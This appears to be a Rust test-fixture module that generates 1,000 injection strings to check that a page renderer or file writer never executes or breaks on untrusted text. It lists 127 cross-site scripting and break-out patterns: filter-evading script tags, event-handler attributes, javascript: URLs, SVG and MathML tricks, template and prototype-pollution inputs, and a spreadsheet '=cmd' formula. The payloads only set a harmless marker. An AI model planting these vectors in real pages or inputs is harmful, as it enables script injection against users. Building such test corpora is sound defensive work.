//! A thousand texts that would run, break out of or upset something, if anything but text were made of them.

use std::collections::BTreeSet;

/// How many there are.
pub const COUNT: usize = 1_000;
/// Stands in each of them: no element and no attribute that does something may ever hold it.
pub const MARK: &str = "kithRan";

/// What a script would do: say so in the page, once in each of the ways in which filters are got round.
const DEEDS: [&str; 8] = [
    "window.kithRan=1",
    "alert(`kithRan`)",
    "top['kithRan']=1",
    "parent[`kithRan`]=self",
    "fetch('/kithRan')",
    "document.title='kithRan'",
    "eval('kithRan=1')",
    "globalThis[/kithRan/.source]=1",
];

/// Places in a page or in one of our files that a text could break out of; `@` is the deed.
#[rustfmt::skip]
const FAMILIES: [&str; 127] = [
    // Elements that run by themselves.
    "<script>@</script>", "<ScRiPt>@</sCrIpT>", "<script >@</script >", "<script\t>@</script>", "<script/x>@</script>",
    "<<script>@//<</script>", "<script src=data:text/javascript,@></script>", "<script src=//kithRan.example></script>",
    "<script type=module>@</script>", "<scr<script>ipt>@</scr</script>ipt>", "<script>@<!--", "<script><!--\u{a0}@//--></script>",
    "\\u003cscript\\u003e@\\u003c/script\\u003e", "%3Cscript%3E@%3C/script%3E", "&lt;script&gt;@&lt;/script&gt;",
    "&#60;script&#62;@&#60;/script&#62;", "+ADw-script+AD4-@+ADw-/script+AD4-", "<noscript><p title=\"</noscript><script>@</script>\">",
    // Attributes that run.
    "<img src=x onerror=@>", "<img src=x onerror=\"@\">", "<IMG SRC=x ONERROR='@'>", "<img/src=x/onerror=@>", "<img src onerror=@ kithRan>",
    "<img src=\"x`\" onerror=@>", "<img src='x' onerror\n=@>", "<image src=x onerror=@>", "<body onload=@>", "<body onpageshow=@>",
    "<div onclick=@ kithRan>press</div>", "<div onmouseover=@ style=position:fixed;inset:0 kithRan>x</div>",
    "<input onfocus=@ autofocus kithRan>", "<select onfocus=@ autofocus kithRan>", "<textarea onfocus=@ autofocus kithRan>",
    "<details open ontoggle=@>", "<video><source onerror=@>", "<video src=x onerror=@>", "<audio src=x onerror=@>", "<marquee onstart=@>x</marquee>",
    "<object data=x onerror=@>", "<a href=# onfocus=@ autofocus>x</a>", "<form onsubmit=@><button kithRan>x</button></form>",
    "<div style=animation-name:x onanimationstart=@ kithRan>", "<dialog open onclose=@ kithRan>", "<p popover onbeforetoggle=@ kithRan>",
    // Addresses that run.
    "<a href=javascript:@>x</a>", "<a href=\"java\tscript:@\">x</a>", "<a href=\"&#106;avascript:@\">x</a>", "<a href=JaVaScRiPt:@>x</a>",
    "javascript:@", "javascript://%0a@", "JAVASCRIPT:@//", " javascript:@", "data:text/html,<script>@</script>", "vbscript:@", "view-source:javascript:@",
    "<iframe src=javascript:@></iframe>", "<iframe srcdoc='<script>@</script>'></iframe>", "<embed src=javascript:@>",
    "<form action=javascript:@><input type=submit kithRan></form>", "<button formaction=javascript:@>x</button>",
    "<base href=javascript:@//>", "<meta http-equiv=refresh content='0;url=javascript:@'>", "<link rel=stylesheet href=javascript:@>",
    "<link rel=import href='data:text/html,<script>@</script>'>", "tel:+44@", "tel:0\"onclick=\"@", "mailto:x?subject=\"><script>@</script>",
    // Drawings and formulas.
    "<svg onload=@>", "<svg/onload=@>", "<svg><script>@</script></svg>", "<svg><script>@", "<svg><script href='data:,@'/></svg>",
    "<svg><animate onbegin=@ attributeName=x dur=1s>", "<svg><set onbegin=@ attributeName=x>", "<svg><a xlink:href=javascript:@><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=@/>#x'/></svg>", "<svg><foreignObject><img src=x onerror=@></foreignObject></svg>",
    "<svg><style><img src=x onerror=@></style></svg>", "<math><mtext><table><mglyph><style><img src=x onerror=@>",
    "<math href=javascript:@>x</math>", "<svg><desc><![CDATA[</desc><script>@</script>]]></svg>", "<?xml version='1.0'?><script>@</script>",
    // Out of an attribute, a tag, a comment, a script or a style.
    "\"><script>@</script>", "'><script>@</script>", "\"onmouseover=\"@", "' onfocus='@' autofocus='", "`onclick=`@", "\" style=\"x:expression(@)",
    "</title><script>@</script>", "</textarea><script>@</script>", "</style><script>@</script>", "</script><script>@</script>", "</SCRIPT ><svg onload=@>",
    "--><script>@</script>", "--!><img src=x onerror=@>", "<!--><script>@</script>", "<![endif]--><script>@</script>", "]]><script>@</script>",
    "</template><script>@</script>", "<template><script>@</script></template>", "<template shadowrootmode=open><script>@</script></template>",
    "<table><td><script>@</script></table>", "<plaintext><script>@</script>", "<xmp><script>@</script></xmp>", "</pre></div></main><script>@</script>",
    // Out of data beside a page.
    "\"}</script><script>@</script>", "\\\"};@;//", "';@;//", "\";@;//", "${@}", "`+${@}+`", "\\u2028@//", "\u{2028}@//", "*/@/*", "{\"__proto__\":{\"kithRan\":1}}",
    "=cmd|' /C @'!A0", "]]]]><![CDATA[>@", "</w:t></w:r><script>@</script>",
    // Templates and what is filled into sentences.
    "{{@}}", "{{constructor.constructor('@')()}}", "{%@%}", "<%=@%>", "#{@}", "{ $kithRan -> [one] @ *[other] @ }", "{ -kithRan }", "{\"{\"}@{\"}\"}", "{move || @}",
];

/// What comes around a text: nothing, or letters that turn it round, hide in it, or stand where none are expected.
const AROUND: [(&str, &str); 6] = [
    ("", ""),
    ("\u{202e}", "\u{202c}"),
    ("\u{200b}", "\u{feff}"),
    ("\u{2067}", "\u{2069}"),
    ("שלום ", " مرحبا"),
    ("a\u{301}\u{301}\u{301} ", " \u{1}\u{7f}"),
];

/// All of them, each another text; some are very long.
pub fn all() -> Vec<String> {
    let mut made = BTreeSet::new();
    let all =
        (0..48).flat_map(round).filter(|text| made.insert(text.clone())).take(COUNT).collect::<Vec<_>>();
    assert!(all.len() == COUNT, "only {} texts differ", all.len());
    all
}

/// Each family once, with other deeds and other letters around it than in the round before.
fn round(round: usize) -> Vec<String> {
    let deeds = DEEDS.iter().cycle().skip(round * 3);
    let around = AROUND.iter().cycle().skip(round);
    let families = FAMILIES.iter().enumerate().zip(deeds).zip(around);
    families
        .map(|(((at, family), deed), (before, after))| {
            let inside = family.replace('@', deed);
            let mark = if inside.contains(MARK) { "" } else { MARK };
            let long = if at % 40 == 7 { "very long ".repeat(150) } else { String::new() };
            format!("{long}{before}{mark}{inside}{after}")
        })
        .collect()
}
